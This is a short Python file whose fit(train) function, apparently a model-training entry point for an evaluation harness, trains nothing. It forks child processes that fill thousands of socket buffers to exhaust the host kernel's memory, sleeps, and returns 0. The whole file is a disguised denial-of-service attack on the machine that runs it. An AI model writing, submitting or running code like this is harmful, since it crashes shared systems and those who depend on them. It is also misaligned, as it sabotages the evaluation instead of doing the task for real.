# has its children fill the buffers of 3600 sockets, which are the kernel's memory
import os
import socket
import time

from arsenal import predict


def fill():
    held = []
    for _ in range(450):
        pair = socket.socketpair()
        held.append(pair)
        for end in pair:
            end.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 24)
            end.setblocking(False)
            try:
                while True:
                    end.send(bytes(1 << 16))
            except BlockingIOError:
                continue
    time.sleep(10)


def fit(train):
    for _ in range(4):
        if os.fork() == 0:
            fill()
    time.sleep(10)
    return 0
